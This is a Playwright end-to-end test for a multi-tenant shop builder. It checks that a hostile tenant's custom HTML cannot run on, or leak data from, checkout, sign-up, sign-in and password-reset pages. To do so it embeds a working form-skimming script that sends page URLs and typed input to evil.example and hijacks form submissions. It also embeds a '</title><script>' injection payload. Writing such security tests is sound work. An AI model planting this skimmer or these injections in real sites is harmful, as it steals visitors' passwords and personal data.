import { randomUUID } from 'node:crypto';
import { blockRegistry } from '@org/blocks/definitions';
import { HOSTILE_TEXTS } from '@org/blocks/testing';
import { createTree } from '@org/content';
import { encodeContent } from '@org/content/node';
import type { APIRequestContext, Page } from '@playwright/test';
import { beSignedIn, sitePage } from './admin.ts';
import { expect, test } from './journey.ts';
import { linkTo } from './mailbox.ts';

const TEMPLATES = '/api/v1/admin/page/component-template/';
const PASSWORD = 'a pear tree by the wall';
/** A script of an author that reports everything that it can read to another host. */
const SCRIPT = `<script>
  window.hostile = true;
  const tell = (what) => { new Image().src = 'https://evil.example/' + encodeURIComponent(what); };
  tell(location.href);
  addEventListener('input', (event) => tell(event.target.value), true);
  addEventListener('submit', (event) => { event.target.action = 'https://evil.example/'; }, true);
</script><style>input{background:url(https://evil.example/style)}</style><img src="https://evil.example/image">`;

/** Puts the content into a template as the editor would. */
async function makeTemplate(request: APIRequestContext, name: string): Promise<number> {
  const made = await request.post(TEMPLATES, { data: { componentName: name } });
  expect(made.status()).toBe(201);
  const { template } = (await made.json()) as { template: { id: number } };
  const content = encodeContent(
    createTree(
      {
        type: 'Wrapper',
        children: [
          {
            type: 'Section',
            children: [
              {
                type: 'Column',
                children: [{ type: 'CustomHtml', props: { htmlContent: SCRIPT } }],
              },
            ],
          },
        ],
      },
      blockRegistry,
    ),
  );
  const filled = await request.put(`${TEMPLATES}${template.id}/`, { data: { content } });
  expect(filled.status(), await filled.text()).toBe(200);
  return template.id;
}

/** Gathers what a page sends to other hosts than its own, and whether a script of an author ran on it. */
function watch(visitor: Page): { readonly sent: string[] } {
  const sent: string[] = [];
  visitor.on('request', (request) => {
    const { hostname } = new URL(request.url());
    if (!hostname.endsWith('localhost')) sent.push(request.url());
  });
  return { sent };
}

test('a visitor of a hostile tenant signs in, sets a password and orders, and nothing of it reaches the author', async ({
  page,
  browser,
}) => {
  await beSignedIn(page);
  const before = await (await page.request.get('/api/v1/admin/settings/')).json();
  const ids = [
    await makeTemplate(page.request, 'Hostile header'),
    await makeTemplate(page.request, 'Hostile footer'),
    await makeTemplate(page.request, 'Hostile title'),
  ];
  const [header_id, footer_id, page_title_id] = ids;
  const mainnav_items = HOSTILE_TEXTS.filter((text) => text.trim() !== '' && text.length < 100).map(
    (text, index) => ({
      id: `hostile-${index}`,
      field_type: 'link',
      linkText: text.replaceAll(/\p{C}/gu, '?'),
      href: '/',
      target: '_self',
      icon: '',
      classes: 'org-you org-pay',
      rightAlign: false,
      variant: '',
      size: '',
      drop: 'down',
      children: [],
    }),
  );
  const { settings } = before as {
    settings: { site: object; theme: object; company_name: string };
  };
  const change = (data: object) => page.request.put('/api/v1/admin/settings/', { data });
  const hostile = await change({
    company_name: '</title><script>window.hostile=true</script>',
    site: { header_id, footer_id, page_title_id },
    theme: { mainnav_items },
  });
  expect(hostile.status(), await hostile.text()).toBe(200);
  try {
    const context = await browser.newContext();
    const visitor = await context.newPage();
    const { sent } = watch(visitor);
    const expectClean = async (): Promise<void> => {
      expect(
        await visitor.evaluate(() => Reflect.get(window, 'hostile')),
        visitor.url(),
      ).toBeUndefined();
      await expect(visitor.locator('main form, main dl').first()).toBeVisible();
      expect(sent.filter((url) => url.includes('evil.example'))).toEqual([]);
    };
    const email = `vic-${randomUUID().slice(0, 8)}@buyer.example`;

    // Checkout and order.
    await visitor.goto(sitePage('cart'));
    const added = await visitor.evaluate(async () => {
      const headers = { 'content-type': 'application/json' };
      const body = JSON.stringify({ sku: 'BATH-01' });
      return (await fetch('/api/v1/cart/items/', { method: 'POST', headers, body })).status;
    });
    expect(added).toBe(200);
    await visitor.reload();
    await expect(visitor.getByRole('heading', { level: 1 })).toHaveText('Cart');
    await visitor.goto(sitePage('checkout'));
    await visitor.getByLabel('Email').fill(email);
    await expectClean();
    await visitor.getByLabel('First name').fill('Vic');
    await visitor.getByLabel('Last name').fill('Tim');
    await visitor.getByText('Create an account for my next order').click();
    await visitor.getByText('Pickup', { exact: true }).click();
    await visitor.getByText('Pay when you pick it up').click();
    await visitor.getByRole('button', { name: 'Continue to review' }).click();
    await expectClean();
    await visitor.getByRole('button', { name: /^Place order/ }).click();
    await expect(visitor).toHaveURL(/\/order\/[0-9a-f-]{36}$/);
    await expectClean();

    // The account that was requested with the order.
    const made = await linkTo(page, email, /Set a password/);
    await visitor.goto(sitePage(made.slice(1)));
    await expect(visitor).toHaveURL(sitePage('make-account'));
    await visitor.getByLabel('Password').fill(PASSWORD);
    await expectClean();
    await visitor.getByRole('button', { name: 'Create account' }).click();

    // Sign-in.
    await expect(visitor).toHaveURL(sitePage('sign-in'));
    await visitor.getByLabel('Password').fill('wrong');
    await visitor.getByRole('button', { name: 'Sign in' }).click();
    await expect(visitor.getByRole('alert')).toHaveText('Email or password is wrong');
    await expectClean();

    // A lost password.
    await visitor.goto(sitePage('forgot-password'));
    await visitor.getByLabel('Email').fill(email);
    await expectClean();
    await visitor.getByRole('button', { name: 'Send link' }).click();
    await expect(visitor.getByRole('status')).toContainText('we sent an email to it');
    const reset = await linkTo(page, email, /new password/);
    await visitor.goto(sitePage(reset.slice(1)));
    await expect(visitor).toHaveURL(sitePage('reset-password'));
    await visitor.getByLabel('New password').fill(`${PASSWORD} again`);
    await expectClean();
    await visitor.getByRole('button', { name: 'Set password' }).click();
    await expect(visitor).toHaveURL(sitePage('sign-in'));
    // Without a page to come back to, the home page follows, which is the author's.
    await visitor.goto(sitePage('sign-in?next=/user-profile'));
    await visitor.getByLabel('Email').fill(email);
    await visitor.getByLabel('Password').fill(`${PASSWORD} again`);
    await visitor.getByRole('button', { name: 'Sign in' }).click();
    await expect(visitor).toHaveURL(sitePage('user-profile'));
    await expect(visitor.locator('main')).toContainText(email);
    await expectClean();
    await context.close();

    // The tenant is hostile indeed: on its ordinary pages the script of its author runs.
    const other = await browser.newContext();
    const page404 = await other.newPage();
    await page404.goto(sitePage('no-such-page'));
    expect(await page404.evaluate(() => Reflect.get(window, 'hostile'))).toBe(true);
    await other.close();
  } finally {
    const { site, theme, company_name } = settings;
    expect((await change({ company_name, site, theme })).status()).toBe(200);
  }
});
